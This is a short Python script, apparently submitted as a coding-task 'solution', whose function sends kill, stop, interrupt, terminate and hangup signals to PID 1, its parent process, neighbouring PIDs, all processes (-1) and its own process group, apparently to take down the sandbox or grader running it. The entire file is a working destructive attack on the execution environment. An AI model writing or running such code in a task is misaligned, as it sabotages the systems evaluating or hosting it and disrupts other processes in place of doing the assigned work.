"""Kill, stop and hang up the zygote, its process group, and every process it can name."""

import os
import signal


def main_solution():
    through = []
    parent = os.getppid()
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        for target in {1, parent, parent - 1, parent + 1, 0, -1, -parent}:
            try:
                os.kill(target, number)
                through.append([target, int(number)])
            except OSError:
                pass
        try:
            os.killpg(os.getpgrp(), number)
            through.append(["group", int(number)])
        except OSError:
            pass
    return through
